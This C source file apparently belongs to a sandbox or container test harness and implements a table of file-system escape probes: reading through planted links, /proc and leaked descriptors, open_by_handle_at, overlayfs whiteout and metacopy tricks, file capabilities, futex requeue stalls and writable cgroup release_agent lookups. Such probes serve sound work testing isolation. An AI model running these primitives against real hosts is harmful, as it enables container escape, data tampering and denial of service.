/* Attacks on files: reading and writing what was not shown, and planting what may not be there. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/futex.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attack.h"

/* PATH */
static int read_path(char **args)
{
	return attack_read(open(args[0], O_RDONLY));
}

/* PATH: through a link planted in the working directory */
static int read_link(char **args)
{
	if (symlink(args[0], "planted-link") < 0)
		return -errno;
	return attack_read(open("planted-link", O_RDONLY));
}

/* NAME PATH: through /proc/PID/NAME of every process in sight */
static int read_through_proc(char **args)
{
	DIR *proc = opendir("/proc");
	int last = -ENOENT;
	const struct dirent *entry;

	if (!proc)
		return -errno;
	while (last < 0 && (entry = readdir(proc))) {
		char path[4096];

		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/%s/%s", entry->d_name, args[0], args[1]);
		last = attack_read(open(path, O_RDONLY));
	}
	closedir(proc);
	return last;
}

/* NAME: beneath any directory that was left open */
static int read_leaked(char **args)
{
	int last = -EBADF;

	for (int fd = 3; fd < 256 && last < 0; fd++) {
		int got = attack_read(openat(fd, args[0], O_RDONLY));

		if (got != -EBADF)
			last = got;
	}
	return last;
}

/* PATH: from the root of the working directory's file system, by its inode number (ext4, xfs) */
static int read_by_handle(char **args)
{
	struct {
		struct file_handle head;
		uint32_t ino, generation;
	} handle = { .head = { .handle_bytes = 8, .handle_type = 1 }, .ino = 2 };
	int here = open(".", O_RDONLY | O_DIRECTORY);
	int root = open_by_handle_at(here, &handle.head, O_RDONLY | O_DIRECTORY);

	if (here < 0 || root < 0)
		return -errno;
	while (*args[0] == '/')
		args[0]++;
	return attack_read(openat(root, args[0], O_RDONLY));
}

/* PATH: only asks for the handle */
static int ask_handle(char **args)
{
	struct file_handle *handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
	int mount, code;

	handle->handle_bytes = MAX_HANDLE_SZ;
	code = attack_result(name_to_handle_at(AT_FDCWD, args[0], handle, &mount, 0));
	free(handle);
	return code;
}

/* PATH */
static int create(char **args)
{
	return attack_result(open(args[0], O_WRONLY | O_CREAT | O_EXCL, 0644));
}

/* PATH: an existing file's bytes */
static int overwrite(char **args)
{
	int fd = open(args[0], O_WRONLY);

	return fd < 0 ? -errno : attack_result(write(fd, "overwritten", 11));
}

/* PATH: a pipe that somebody outside reads */
static int write_fifo(char **args)
{
	int fd = open(args[0], O_WRONLY | O_NONBLOCK);

	return fd < 0 ? -errno : attack_result(write(fd, "overwritten", 11));
}

static int cut(char **args)
{
	return attack_result(truncate(args[0], 0));
}

static int take_away(char **args)
{
	return attack_result(unlink(args[0]));
}

/* PATH: so that a writable name leads to the same file */
static int hard_link(char **args)
{
	return attack_result(link(args[0], "planted-name"));
}

/* PATH: its mode */
static int change_mode(char **args)
{
	return attack_result(chmod(args[0], 0600));
}

static int device_node(char **args)
{
	(void)args;
	return attack_result(mknod("planted-node", S_IFCHR | 0666, makedev(1, 3)));
}

/* Character device 0:0 hides a file in an overlay's lower layer. */
static int whiteout_node(char **args)
{
	(void)args;
	return attack_result(mknod("planted-node", S_IFCHR, makedev(0, 0)));
}

/* The same node, made by the kernel in the place of a renamed file. */
static int whiteout_rename(char **args)
{
	(void)args;
	close(open("planted-node", O_WRONLY | O_CREAT, 0644));
	return attack_result(
		renameat2(AT_FDCWD, "planted-node", AT_FDCWD, "renamed", RENAME_WHITEOUT));
}

/* cap_net_raw=ep for a file of ours */
static int file_capability(char **args)
{
	const uint32_t caps[] = { 0x02000001, 1u << 13, 0, 0, 0 };

	(void)args;
	close(open("planted-program", O_WRONLY | O_CREAT, 0755));
	return attack_result(
		setxattr("planted-program", "security.capability", caps, sizeof(caps), 0));
}

/* A note that overlayfs takes for its own: the file is missing in every workspace over this tree. */
static int overlay_note(char **args)
{
	(void)args;
	close(open("planted-note", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	return attack_result(setxattr("planted-note", "user.overlay.metacopy", "", 0, 0));
}

static int overlay_note_by_descriptor(char **args)
{
	int fd = open("planted-note", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	(void)args;
	return fd < 0 ? -errno : attack_result(fsetxattr(fd, "user.overlay.opaque", "y", 1, 0));
}

/* Space of the host's that no counter of written bytes sees. */
static int claim_space(char **args)
{
	int fd = open("planted-space", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	(void)args;
	return fd < 0 ? -errno : attack_result(fallocate(fd, 0, 0, 1 << 20));
}

/* The same by FS_IOC_RESVSP64, with the size kept. */
static int claim_space_by_ioctl(char **args)
{
	struct {
		int16_t type, whence;
		int64_t start, len;
		int32_t rest[6];
	} space = { .len = 1 << 20 };
	int fd = open("planted-space", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	(void)args;
	return fd < 0 ? -errno : attack_result(ioctl(fd, _IOW('X', 42, space), &space));
}

/* PATH...: which of these files of the kernel have something to tell */
static int read_masked(char **args)
{
	char found[200] = "";

	for (; *args; args++) {
		int fd = open(*args, O_RDONLY | O_NONBLOCK);
		struct stat st;
		char byte;

		if (fd < 0 || fstat(fd, &st) < 0)
			continue;
		if (S_ISREG(st.st_mode) && read(fd, &byte, 1) == 1)
			snprintf(found + strlen(found), sizeof(found) - strlen(found), "%s,",
				 *args);
		close(fd);
	}
	if (!found[0])
		return -ENODATA;
	attack_loot(found);
	return 0;
}

/* PATH: a setting of the kernel, only opened for writing */
static int open_setting(char **args)
{
	int fd = open(args[0], O_WRONLY);
	struct stat st;

	if (fd < 0 || fstat(fd, &st) < 0)
		return -errno;
	return S_ISREG(st.st_mode) ? 0 : -ENXIO; /* a mask is a device */
}

/* FILE: a lease keeps whoever opens the file for writing outside waiting */
static int take_lease(char **args)
{
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);

	return attack_result(fd < 0 ? -1 : fcntl(fd, F_SETLEASE, F_RDLCK));
}

/* FILE: moves whoever waits at its first word to a word of our own, where nobody wakes them */
static int steal_waiters(char **args)
{
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);
	void *theirs = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	void *ours = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (theirs == MAP_FAILED || ours == MAP_FAILED)
		return -errno;
	return attack_result(
		syscall(SYS_futex, theirs, FUTEX_REQUEUE, 0, (void *)(intptr_t)INT_MAX, ours, 0));
}

/* DIRECTORY: the first directory of cgroups whose release agent or members can be set */
static int open_cgroup(char **args)
{
	static const char *const names[] = { "release_agent", "cgroup.procs" };
	DIR *dir = opendir(args[0]);
	const struct dirent *entry;
	int last = -ENOENT;

	if (!dir)
		return -errno;
	while (last < 0 && (entry = readdir(dir)))
		for (int i = 0; i < 2 && last < 0; i++) {
			char path[512];

			snprintf(path, sizeof(path), "%s/%s/%s", args[0], entry->d_name, names[i]);
			last = attack_result(open(path, O_WRONLY));
		}
	closedir(dir);
	return last;
}

/* WORD: in the list of mounts */
static int search_mounts(char **args)
{
	FILE *file = fopen("/proc/self/mountinfo", "r");
	char line[8192];
	int code = -ENODATA;

	if (!file)
		return -errno;
	while (code < 0 && fgets(line, sizeof(line), file))
		if (strstr(line, args[0]))
			code = 0;
	fclose(file);
	return code;
}

const struct attack attack_files[] = {
	{ "read", read_path },
	{ "read-link", read_link },
	{ "read-through-proc", read_through_proc },
	{ "read-leaked", read_leaked },
	{ "read-by-handle", read_by_handle },
	{ "ask-handle", ask_handle },
	{ "create", create },
	{ "overwrite", overwrite },
	{ "write-fifo", write_fifo },
	{ "truncate", cut },
	{ "unlink", take_away },
	{ "hard-link", hard_link },
	{ "change-mode", change_mode },
	{ "device-node", device_node },
	{ "whiteout-node", whiteout_node },
	{ "whiteout-rename", whiteout_rename },
	{ "file-capability", file_capability },
	{ "overlay-note", overlay_note },
	{ "overlay-note-by-descriptor", overlay_note_by_descriptor },
	{ "claim-space", claim_space },
	{ "claim-space-by-ioctl", claim_space_by_ioctl },
	{ "read-masked", read_masked },
	{ "open-setting", open_setting },
	{ "open-cgroup", open_cgroup },
	{ "search-mounts", search_mounts },
	{ "lease", take_lease },
	{ "steal-waiters", steal_waiters },
	{ NULL, NULL },
};
